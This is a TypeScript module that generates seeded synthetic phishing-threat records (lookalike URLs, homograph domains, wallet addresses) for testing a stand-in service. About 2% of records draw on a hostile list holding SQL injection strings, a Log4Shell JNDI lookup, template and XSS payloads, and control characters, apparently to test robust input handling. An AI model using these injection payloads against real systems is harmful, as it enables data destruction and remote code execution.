// Generated threats for the stand-in: deterministic from a seed, realistic per type, some hostile.
import { addDays, daysBetween } from '../lib/days.js';

export interface StandinThreat {
  readonly id: number;
  readonly content: string;
  readonly type: string;
  readonly blockedAt: string;
  /** The organization that blocked it: decides which keys may see it. */
  readonly organization: string;
}

export interface GenerateOptions {
  readonly seed: number;
  readonly organizations: readonly string[];
  readonly count: number;
  readonly fromDay: string;
  readonly toDay: string;
  /** The first id; ids rise with blockedAt, with gaps, as a real service's would. */
  readonly firstId?: number;
  /** About 2% hostile contents (quotes, SQL, unicode, NUL, very long). Default true. */
  readonly hostile?: boolean;
  /** Share of records given a type outside the documented list. Default 0. */
  readonly unknownTypeShare?: number;
}

/** mulberry32: small, fast, and the same sequence on every machine. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const TYPES = ['URL', 'URL', 'URL', 'PAGE', 'ADDRESS', 'ADDRESS', 'EMAIL', 'IPFS', 'PLATFORM_02', 'PLATFORM_03', 'PLATFORM_07', 'PLATFORM_25'] as const;
const WORDS = ['login', 'secure', 'verify', 'wallet', 'account', 'support', 'claim', 'airdrop', 'update', 'bonus'];
const BRANDS = ['example-bank', 'paypa1-example', 'metamask-example', 'coinbase-example', 'ledger-example'];
const HEX = '0123456789abcdefABCDEF';
const BASE36 = '0123456789abcdefghijklmnopqrstuvwxyz';
const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';

const HOSTILE: ReadonlyArray<(random: () => number) => string> = [
  () => `https://evil.example/'; DROP TABLE threats; --`,
  () => `"quoted" 'single' \`back\` \\backslash\\`,
  () => 'https://xn--80ak6aa92e.example/путь?q=😀&r=\u202Eevil\u202C',
  () => 'e\u0301le\u0300ve combining — 日本語のフィッシング',
  () => 'nul\u0000inside and\ttab and\nnewline',
  (random) => `https://long.example/${'a'.repeat(10_000 + Math.floor(random() * 2000))}`,
  () => "Robert'); DELETE FROM organization_threats WHERE ('1'='1",
  () => '%s %n {{7*7}} ${jndi:ldap://x.example/a} <script>alert(1)</script>',
];

function pick<T>(items: readonly T[], random: () => number): T {
  return items[Math.floor(random() * items.length)] as T;
}

function chars(alphabet: string, length: number, random: () => number): string {
  let out = '';
  for (let index = 0; index < length; index += 1) out += alphabet[Math.floor(random() * alphabet.length)];
  return out;
}

/** Shares of URL and PAGE threats that block a whole host (lookalike and throwaway domains). */
const HOST_BLOCK_SHARE = { URL: 0.35, PAGE: 0.1 } as const;
const TLDS = ['com', 'net', 'xyz', 'top', 'online', 'app'];
/** Homograph labels: Cyrillic letters that look Latin, and plain non-Latin names (IDNs, xn-- in DNS). */
const IDN_LABELS = ['раураl', 'аррlе-id', 'lеdgеr', 'cоinbase', 'metamаsk', 'bücher-konto', 'пример-банк', '例え-ウォレット'];

/**
 * A host block: a bare domain or `https://host/`. Lookalike domains come from a small pool, so the
 * same domain is blocked by several threats and its subdomains are blocked too (both must be
 * listed, and a subdomain of a listed parent stays out of the metamask list); throwaway hosts are
 * random; a few are IDNs.
 */
function hostBlockContent(random: () => number): string {
  const roll = random();
  const lookalike = `${pick(BRANDS, random)}-${pick(WORDS, random)}.${pick(TLDS, random)}`;
  let host: string;
  if (roll < 0.3) host = lookalike;
  else if (roll < 0.5) host = `${pick(WORDS, random)}.${lookalike}`;
  else if (roll < 0.6) host = `${pick(IDN_LABELS, random)}-${chars(BASE36, 4, random)}.${pick(TLDS, random)}`;
  else host = `${pick(WORDS, random)}-${chars(BASE36, 8, random)}.${pick(TLDS, random)}`;
  return random() < 0.4 ? host : `https://${host}/`;
}

export function contentFor(type: string, random: () => number): string {
  switch (type) {
    case 'URL':
      if (random() < HOST_BLOCK_SHARE.URL) return hostBlockContent(random);
      // Phishing hosts are mostly throwaway: a random label keeps hosts about as distinct as URLs.
      return `https://${pick(WORDS, random)}-${chars(BASE36, 6, random)}.${pick(BRANDS, random)}.com/${pick(WORDS, random)}?id=${Math.floor(random() * 1e6)}`;
    case 'PAGE':
      if (random() < HOST_BLOCK_SHARE.PAGE) return hostBlockContent(random);
      return `https://sites.example-host.com/${pick(BRANDS, random)}/${pick(WORDS, random)}-${Math.floor(random() * 1e4)}.html`;
    case 'ADDRESS': {
      const roll = random();
      if (roll < 0.6) return `eip155:${pick(['1', '137', '56', '8453'], random)}:0x${chars(HEX, 40, random)}`;
      if (roll < 0.85) return `solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp:${chars(BASE58, 44, random)}`;
      return `bip122:000000000019d6689c085ae165831e93:bc1q${chars('023456789acdefghjklmnpqrstuvwxyz', 38, random)}`;
    }
    case 'EMAIL':
      return `${pick(WORDS, random)}.${pick(WORDS, random)}${Math.floor(random() * 100)}@${pick(BRANDS, random)}.com`;
    case 'IPFS':
      return `Qm${chars(BASE58, 44, random)}`;
    default:
      return `https://social.example.com/@${pick(WORDS, random)}_${pick(BRANDS, random)}_${Math.floor(random() * 1e5)}`;
  }
}

export function generateThreats(options: GenerateOptions): StandinThreat[] {
  const random = seededRandom(options.seed);
  const days = daysBetween(options.fromDay, options.toDay);
  if (days === 0 || options.count <= 0 || options.organizations.length === 0) return [];
  // Uneven days, as real traffic is: some dense, some empty.
  const weights: number[] = Array.from({ length: days }, () => (random() < 0.15 ? 0 : random() < 0.1 ? 8 : 0.5 + random()));
  if (!weights.some((weight) => weight > 0)) weights[0] = 1;
  const total = weights.reduce((sum, weight) => sum + weight, 0);
  const perDay = weights.map((weight) => Math.floor((weight / total) * options.count));
  let missing = options.count - perDay.reduce((sum, n) => sum + n, 0);
  for (let index = 0; missing > 0; index = (index + 1) % days) {
    if ((weights[index] ?? 0) > 0) {
      perDay[index] = (perDay[index] ?? 0) + 1;
      missing -= 1;
    }
  }
  const hostile = options.hostile ?? true;
  const unknownShare = options.unknownTypeShare ?? 0;
  const threats: StandinThreat[] = [];
  let id = options.firstId ?? 1000;
  for (let dayIndex = 0; dayIndex < days; dayIndex += 1) {
    const day = addDays(options.fromDay, dayIndex);
    const count = perDay[dayIndex] ?? 0;
    const dayStart = Date.parse(`${day}T00:00:00.000Z`);
    const offsets = Array.from({ length: count }, () => Math.floor(random() * 86_400_000)).sort((a, b) => a - b);
    for (const offset of offsets) {
      id += 1 + Math.floor(random() * 3);
      const type = random() < unknownShare ? `PLATFORM_${90 + Math.floor(random() * 9)}` : pick(TYPES, random);
      const content = hostile && random() < 0.02 ? pick(HOSTILE, random)(random) : contentFor(type, random);
      threats.push({ id, content, type, blockedAt: new Date(dayStart + offset).toISOString(), organization: pick(options.organizations, random) });
    }
  }
  return threats;
}
